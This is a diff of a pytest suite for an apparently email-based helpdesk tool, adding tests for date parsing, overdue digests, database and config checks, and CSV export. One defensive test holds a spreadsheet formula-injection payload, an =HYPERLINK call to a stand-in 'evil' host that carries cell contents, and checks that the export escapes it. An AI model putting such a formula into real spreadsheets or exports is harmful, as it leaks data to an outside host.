@@ -51,7 +51,7 @@ def phoned(maild):
     November, and an e-mail ticket that does not count."""
     petrov, kuznetsov = "Пётр Петров <p.petrov@torex.ru>", "Сергей Кузнецов <s.kuznetsov@torex.ru>"
     maild.send(mail(subject="профиль", body="#профиль\nКабинет: 305\nКомпания: ТОРЭКС-Сервис",
-                    sender="Ольга Белова <o.belova@torex.ru>"), sender="o.belova@torex.ru")
+                    sender="Ольга Белова <o.belova@torex.ru>", headers=TRUSTED_DKIM), sender="o.belova@torex.ru")
     maild.drain()
     file_by_phone(maild, petrov, "Ольга Белова <o.belova@torex.ru>", "мышь")          # OSA-000001
     file_by_phone(maild, petrov, "Иван Иванов <ivan@torex.ru>", "принтер")            # OSA-000002
@@ -235,3 +235,70 @@ def test_dates_as_people_type_them(typed, expected):
 
 def test_a_january_last_month_is_december():
     assert dates.period("last month", date(2027, 1, 15)) == (date(2026, 12, 1), date(2027, 1, 1))
+
+
+@pytest.mark.parametrize("typed,expected", [
+    ("2026", (date(2026, 1, 1), date(2027, 1, 1))),
+    ("Nov 2026", (date(2026, 11, 1), date(2026, 12, 1))),
+    ("ноябрь 2026", (date(2026, 11, 1), date(2026, 12, 1))),
+    ("1 ноября 2026", (date(2026, 11, 1), date(2026, 11, 2))),
+    ("2026/11", (date(2026, 11, 1), date(2026, 12, 1))),
+    ("11/2026", (date(2026, 11, 1), date(2026, 12, 1))),
+    ("2026.11.01", (date(2026, 11, 1), date(2026, 11, 2))),
+    ("2026-11-01 23:00", (date(2026, 11, 1), date(2026, 11, 2))),
+    ("1 Nov 2026", (date(2026, 11, 1), date(2026, 11, 2))),
+])
+def test_dates_that_dateutil_alone_would_misread(typed, expected):
+    assert dates.period(typed, date(2027, 3, 31)) == expected
+
+
+@pytest.mark.parametrize("typed", ["nov", "monday", "5", "-1", "29.02.2025", "позавчера", "2026-13"])
+def test_dates_with_a_part_to_guess_are_refused(typed):
+    with pytest.raises(dates.DateError, match="cannot read the date"):
+        dates.period(typed, date(2026, 11, 27))
+
+
+def test_csv_cells_never_run_as_formulas(phoned):
+    phoned.send(mail(subject="профиль", body='#профиль\nКомпания: =HYPERLINK("http://evil/?"&A1,"click")',
+                     sender="Ольга Белова <o.belova@torex.ru>", headers=TRUSTED_DKIM), sender="o.belova@torex.ru")
+    phoned.drain()
+    out = cli(phoned, "report", "phone", "--since", "2026-11", "--until", "2026-11", "--format", "csv").output
+    assert "'=HYPERLINK" in out and ',=HYPERLINK' not in out
+
+
+def test_digest_overdue_is_waiting_for_us_and_robots_do_not_reset_it(maild):
+    from maild import digest as digest_mod
+    from maild.models import now
+    for n in range(2):
+        maild.send(mail(subject=f"Заявка {n}", message_id=f"d{n}@torex.ru"))
+    maild.drain()
+    for number in ("OSA-000001", "OSA-000002"):
+        set_created(maild, number, utc(2026, 11, 20, 9))
+    # A robot answers on OSA-000001; OSA-000002 was answered by staff before (waits for the employee).
+    maild.send(mail(subject="Автоматический ответ: [#OSA-000001] Заявка 0",
+                    headers={"Auto-Submitted": "auto-replied"}))
+    maild.drain()
+    with maild.app.engine_begin() as conn:
+        conn.execute(text("UPDATE tickets SET status = 'answered' WHERE number = 'OSA-000002'"))
+        lines = {line.row.number: line.overdue
+                 for line in digest_mod.lines(conn, "OSA", utc(2026, 11, 27, 9), overdue_days=2)}
+    assert lines == {"OSA-000001": True, "OSA-000002": False}
+
+
+def test_report_on_a_database_older_than_the_code_says_run_db_init(maild):
+    with maild.app.engine_begin() as conn:
+        conn.execute(text("ALTER TABLE tickets DROP COLUMN transferred_from"))
+    result = cli(maild, "report", "summary")
+    assert result.exit_code == 78 and "maild db init" in result.output
+
+
+def test_notification_tables_must_name_departments_of_the_rules(tmp_path):
+    from maild import config as config_mod
+    from maild.app import App
+    path = tmp_path / "maild.toml"
+    path.write_text(f'data_dir = "{tmp_path / "d"}"\n[notifications.OAS]\nack = false\n', encoding="utf-8")
+    with pytest.raises(config_mod.ConfigError, match=r"\[notifications.OAS\]: the rules have no department OAS"):
+        App.create(config_mod.load(path))
+    path.write_text('[reports]\nphone_to = "hr at torex"\n', encoding="utf-8")
+    with pytest.raises(config_mod.ConfigError, match="reports.phone_to"):
+        config_mod.load(path)
